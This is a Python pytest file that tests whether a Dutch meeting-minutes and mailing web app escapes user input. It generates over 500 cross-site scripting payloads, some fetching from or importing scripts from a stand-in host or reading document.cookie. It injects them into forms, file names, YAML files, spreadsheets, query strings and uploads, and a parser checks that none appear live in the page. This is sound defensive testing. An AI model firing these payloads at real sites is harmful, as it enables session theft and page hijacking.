"""Nothing that somebody types, names or sends becomes a part of a page: 500 ways to try."""

from __future__ import annotations

import io
import re
from html import unescape
from html.parser import HTMLParser
from itertools import product
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import openpyxl
import pytest

from lrtdocs import api

if TYPE_CHECKING:
    from pathlib import Path

    from starlette.testclient import TestClient

    from lrtdocs.web.desk import Desk

MEETING = "2025-03-19-lrt.yaml"
DOES = (
    *("alert(1)", "fetch('//x.example')", "document.cookie", "{{7*7}}", "${7*7}"),
    *("location='//x.example'", "print`1`", "top[`al`+`ert`](1)", "&#97;lert(1)"),
    *("constructor.constructor('x')()", "import('//x.example/a.js')", "eval(atob('YQ'))"),
    "\\u0061lert(1)",
)
SHAPES = (
    *("<script>{}</script>", "<ScRiPt src=//x.example>{}</sCrIpT>"),
    *("</title><script>{}</script>", "</textarea><script>{}</script>"),
    *("</script><script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>"),
    *("<svg><script>{}</script></svg>", "<math><mi xlink:href='javascript:{}'>"),
    *("<body onload={}>", "<iframe srcdoc='<script>{}</script>'>"),
    *("<iframe src=javascript:{}>", "<a href=javascript:{}>x</a>"),
    *("<a href='data:text/html,{}'>x</a>", "<details open ontoggle={}>"),
    *('" onfocus={} autofocus x="', "' onmouseover='{}' x='", '"><script>{}</script>'),
    *("'><img src=x onerror={}>", "<style>@import'//x.example'</style>{}"),
    *("<base href=//x.example>{}", "<form action=//x.example><button>{}"),
    *("<input onfocus={} autofocus>", "<link rel=import href={}>"),
    *("<meta http-equiv=refresh content='0;url=javascript:{}'>", "<object data=javascript:{}>"),
    *("<embed src=javascript:{}>", "<template><script>{}</script></template>"),
    *("<!--><script>{}-->", "<marquee onstart={}>", "[x](javascript:{})", "![x](javascript:{})"),
    *("<x onclick={}>x</x>", "%3Cscript%3E{}%3C/script%3E", "&lt;script&gt;{}&lt;/script&gt;"),
    *("\u202e<script>{}</script>", "{% raw %}<script>{}</script>", "]]><script>{}</script>"),
    *("<scr<script>ipt>{}</scr</script>ipt>", "\u00bcscript\u00be{}"),
)
SCRIPTS = [shape.replace("{}", does) for shape, does in product(SHAPES, DOES)]
ROUNDS = [" ".join(SCRIPTS[at :: len(DOES)]) for at in range(len(DOES))]
"""All of them: in each round every shape once."""
FORBIDDEN = {
    *("iframe", "object", "embed", "base", "style", "math", "marquee", "x", "body onload"),
    *("animate", "foreignobject", "frame", "frameset", "applet", "video", "audio"),
}


class Reader(HTMLParser):
    """Reads a page as a browser does, and notes what is not of our own making."""

    def __init__(self) -> None:
        super().__init__()
        self.odd: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        own = given.get("src", "").startswith("/vast/") or "nonce" in given
        if tag in FORBIDDEN or (tag == "script" and not own):
            self.odd.append(tag)
        for name, value in given.items():
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.odd.append(f"{tag} {name}")
            address = name in {"href", "src", "action", "formaction", "data", "xlink:href"}
            if address and not re.match(r"[/?#]|$", value):
                self.odd.append(f"{tag} {name}={value[:40]}")
            if address and value.startswith("//"):
                self.odd.append(f"{tag} {name}={value[:40]}")


def oddities(page: str) -> list[str]:
    reader = Reader()
    reader.feed(page)
    return reader.odd


def test_there_are_five_hundred_and_each_would_be_seen() -> None:
    assert len(set(SCRIPTS)) >= 500
    for shape in (
        "<script>x</script>",
        "<svg onload=x>",
        "<a href=javascript:x>",
        "<base href=//x>",
    ):
        assert oddities(shape), shape


def names_in(page: str) -> list[str]:
    return re.findall(r'<(?:input|textarea|select)[^>]* name="(v:[^"]+)"', page)


def hidden_in(page: str) -> dict[str, str]:
    return {
        name: unescape(re.search(rf'name="{name}" value="([^"]*)"', page)[1])  # type: ignore[index]
        for name in ("grondtekst", "controlegetal")
    }


@pytest.mark.parametrize("typed", ROUNDS[:3])
def test_in_every_field_of_a_form_they_stay_text(
    client: TestClient, desk: Desk, typed: str
) -> None:
    where = f"/vergadering/{desk.files.id_of(desk.folder / MEETING)}"
    page = client.get(where).text
    names = names_in(page)
    assert len(names) > 100

    fields = dict.fromkeys(names, typed)
    answer = client.post(where, data={**hidden_in(page), **fields, "doe": "opslaan"})

    assert answer.status_code == 422  # nothing of it is a day or a time: the form comes back
    assert answer.text.count("&lt;script&gt;") > len(names)
    assert oddities(answer.text) == []


def pages(desk: Desk) -> list[str]:
    """The address of every page about the files in the folder, and those of the folder itself."""
    found = api.list_folder(desk.folder)
    parts = (
        *("", "/tekst", "/stukken", "/uitnodiging", "/bundel", "/volgende", "/vaststellen"),
        *("/verzonden", "/terug", "/openbaar"),
    )
    steps = (
        *("", "/gegevens", "/tekst", "/ontvangers", "/controle", "/proef", "/akkoord", "/maken"),
        *("/brieven", "/verzonden"),
    )
    made = [
        f"/vergadering/{desk.files.id_of(one.path)}{p}" for one in found.meetings for p in parts
    ]
    made += [f"/mailing/{desk.files.id_of(one.path)}{p}" for one in found.mailings for p in steps]
    return [*made, "/", "/lijsten", "/lijsten?soort=besluiten", "/sjablonen", "/huisstijl/tekst"]


def as_yaml(text: str) -> str:
    """A text as YAML."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\n", " ") + '"'


def hostile_folder(folder: Path) -> None:
    """Put files in `folder` that say all of it, in every place that a page shows."""
    said = as_yaml(ROUNDS[0].replace("\u202e", ""))
    (folder / "vergadering <img src=x onerror=alert(1)>.yaml").write_text(
        f"overleg: {said}\ndatum: 2025-03-19\nplaats: {said}\naanwezig:\n  - {said}\n"
        f"agendapunten:\n  - titel: {said}\n    inbrenger: {said}\n    verslag: {said}\n"
        f"    actiepunten:\n      - {{wat: {said}, wie: {said}}}\nbesluiten: [{said}]\n",
        encoding="utf-8",
    )
    (folder / "mailing '\"><script>alert(1).yaml").write_text(
        f"ontvangers: lijst.xlsx\nbetreft: {said}\ntekst: {said}\nondertekening:\n  naam: {said}\n",
        encoding="utf-8",
    )
    (folder / "iets anders <svg onload=alert(1)>.yaml").write_text("a: 1\n", encoding="utf-8")
    book = openpyxl.Workbook()
    sheet: Any = book.active
    sheet.append(["organisatie", "adres", "postcode", "plaats", "<script>alert(1)</script>"])
    for one in SCRIPTS[::29]:
        bare = re.sub(r"[\x00-\x1f\u202e]", " ", one)
        sheet.append([bare, bare, bare, bare, bare])
    book.save(folder / "lijst.xlsx")


def test_no_page_of_a_folder_that_is_full_of_them_has_one(client: TestClient, desk: Desk) -> None:
    hostile_folder(desk.folder)
    asked = pages(desk)
    assert len(asked) > 30

    for address in asked:
        answer = client.get(address)

        assert answer.status_code in {200, 303, 409, 422}, address
        assert oddities(answer.text) == [], address
        assert "Traceback" not in answer.text
        assert "default-src 'none'" in answer.headers["content-security-policy"]


QUESTIONS = (
    *(
        "verteld",
        "toon",
        "zoek",
        "pagina",
        "datum",
        "controle",
        "wie",
        "soort",
        "ontvanger",
        "alles",
    ),
    *("verlopen", "gereed", "proef", "letter", "sleutel", "van", "met", "bestand"),
)


@pytest.mark.parametrize("start", range(0, len(SCRIPTS), 120))
def test_what_an_address_asks_is_never_a_part_of_the_page(
    client: TestClient, desk: Desk, start: int
) -> None:
    some = quote(" ".join(SCRIPTS[start : start + 120 : 3])[:2500])
    query = "&".join(f"{name}={some}" for name in QUESTIONS)
    own = desk.files.id_of(desk.folder / MEETING)

    for address in ("/", "/lijsten", f"/vergadering/{own}", f"/vergadering/{own}/volgende"):
        answer = client.get(f"{address}?{query}")

        assert answer.status_code in {200, 400, 403, 404, 409, 422}, address
        assert oddities(answer.text) == [], address
        assert "\n" not in answer.headers.get("location", "")


@pytest.mark.parametrize("one", SCRIPTS[:: len(SCRIPTS) // 12])
def test_the_name_of_what_is_sent_is_only_shown(client: TestClient, desk: Desk, one: str) -> None:
    own = desk.files.id_of(desk.folder / MEETING)
    name = re.sub(r"[\x00-\x1f]", "", one)
    before = {path.name for path in desk.folder.rglob("*")}
    for address, field in ((f"/vergadering/{own}/terug", "document"), ("/sjablonen", "sjabloon")):
        for data in (b"PK\x03\x04niets", io.BytesIO(b"<script>alert(1)</script>").getvalue()):
            answer = client.post(address, files={field: (f"{name}.docx", data)})

            assert answer.status_code in {200, 303, 404, 422}
            assert oddities(answer.text) == []
            shown = client.get(answer.headers["location"]).text if answer.status_code == 303 else ""
            assert oddities(shown) == []
    assert {path.name for path in desk.folder.rglob("*")} == before
